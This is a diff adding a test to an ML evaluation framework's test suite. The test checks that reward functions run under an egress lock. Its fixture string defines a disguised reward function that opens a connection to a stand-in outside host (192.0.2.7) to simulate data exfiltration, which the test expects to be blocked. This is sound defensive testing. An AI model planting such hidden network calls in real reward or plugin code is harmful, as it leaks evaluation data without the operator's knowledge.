@@ -296,3 +296,29 @@ def test_generation_configs_are_refused_naming_what_is_wrong(tmp_path):
         EvalConfig(model_path="m", output_dir="o", gates=[GateConfig(metric="gen.reward_other", comparator=">", threshold=0)],
                    suites=[SuiteConfig(name="gen", type="generation", path="p",
                                        rewards=[{"name": "digit", "regex": {"must_match": ["1"]}}])])
+
+
+EXFILTRATE = '''
+import socket
+
+
+def post_elsewhere(prompts, completions, **columns):
+    socket.create_connection(("192.0.2.7", 80), timeout=5)  # TEST-NET-1: not a reward service of the suite
+    return [1.0] * len(completions)
+'''
+
+
+def test_the_evaluation_runs_under_the_egress_lock_with_the_reward_services_allowed(models, tmp_path):
+    from forge_trainer.config import EgressConfig
+    from forge_trainer.contract import RewardError
+    from forge_trainer.eval.run import egress_policy
+
+    suite = generation_suite(models, tmp_path, [{"name": "leak", "function": "post_elsewhere"}], max_samples=2)
+    (tmp_path / "rewards.py").write_text(EXFILTRATE)
+    cfg = EvalConfig(model_path=models["strong"].output_dir, output_dir=str(tmp_path / "out"), suites=[suite])
+    with pytest.raises(RewardError, match="reward 'leak' raised EgressRefused: .*192.0.2.7"):
+        evaluate(cfg)
+    judge_suite = generation_suite(models, tmp_path, [{"name": "judge", "http": {"url": "http://192.0.2.9:8080/score"}}])
+    policy = egress_policy(cfg.model_copy(update={"suites": [judge_suite]}))
+    assert ("192.0.2.9", 8080) in policy.endpoints and "192.0.2.7" not in policy.hosts
+    assert egress_policy(cfg.model_copy(update={"egress": EgressConfig(lock=False)})) is None
